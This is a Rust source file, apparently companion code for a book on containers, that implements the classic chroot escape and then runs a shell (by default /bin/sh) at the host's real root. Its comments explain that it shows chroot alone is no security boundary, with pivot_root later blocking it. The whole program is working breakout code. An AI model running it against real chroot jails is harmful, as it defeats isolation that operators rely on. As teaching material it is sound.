//! `escape`: the classic chroot escape, to show that chroot alone is no security boundary.
//!
//! The book's chapter 1 runs it inside `ch01-chroot` and watches it reach the host's root; chapter 2
//! runs it again after `pivot_root` and watches it fail. The trick works because `chroot(2)` changes
//! the root directory but not the current one, and the kernel only stops `..` at the *current* root:
//!
//! 1. make a directory and `chroot` into it, without `chdir` into it: the working directory is now
//!    outside the root, where `..` is never stopped;
//! 2. `chdir("..")` until `.` and `..` are the same directory (the real `/`, or the top of whatever
//!    mount tree this process can see);
//! 3. `chroot(".")` there, and run the command given (default `/bin/sh`).
//!
//! It needs `CAP_SYS_CHROOT`, which root has in chapter 1 and which even docker's default set keeps.

use nix::sys::stat::{Mode, stat};
use nix::unistd::{chdir, chroot, execvp, mkdir};
use std::ffi::CString;
use std::process::ExitCode;

fn main() -> ExitCode {
    match escape() {
        Ok(never) => match never {},
        Err(e) => {
            eprintln!("escape: failed: {e}");
            ExitCode::FAILURE
        }
    }
}

fn escape() -> Result<std::convert::Infallible, String> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let argv: Vec<String> = if args.is_empty() { vec!["/bin/sh".into()] } else { args };

    // ANCHOR: escape
    let jail = "tmp/.coracle-escape";
    chdir("/").map_err(|e| format!("chdir(\"/\"): {e}"))?;
    match mkdir(jail, Mode::from_bits_truncate(0o700)) {
        Ok(()) | Err(nix::errno::Errno::EEXIST) => {}
        Err(e) => return Err(format!("mkdir({jail:?}): {e}")),
    }
    chroot(jail).map_err(|e| format!("chroot({jail:?}): {e}"))?;
    eprintln!("escape: chroot({jail:?}) done, working directory left outside the new root");
    // The working directory is still the old root, so the relative path still names the jail.
    let _ = std::fs::remove_dir(jail);

    let mut steps = 0;
    loop {
        let here = stat(".").map_err(|e| format!("stat(\".\"): {e}"))?;
        let up = stat("..").map_err(|e| format!("stat(\"..\"): {e}"))?;
        if (here.st_dev, here.st_ino) == (up.st_dev, up.st_ino) {
            break;
        }
        chdir("..").map_err(|e| format!("chdir(\"..\"): {e}"))?;
        steps += 1;
    }
    chroot(".").map_err(|e| format!("chroot(\".\"): {e}"))?;
    chdir("/").map_err(|e| format!("chdir(\"/\"): {e}"))?;
    eprintln!("escape: climbed {steps} level(s) with chdir(\"..\") and chroot(\".\") there");
    // ANCHOR_END: escape

    let c_argv: Vec<CString> =
        argv.iter().map(|a| CString::new(a.as_str()).map_err(|_| "NUL in argument".to_string())).collect::<Result<_, _>>()?;
    execvp(&c_argv[0], &c_argv).map_err(|e| format!("execvp({:?}): {e}", argv[0]))
}
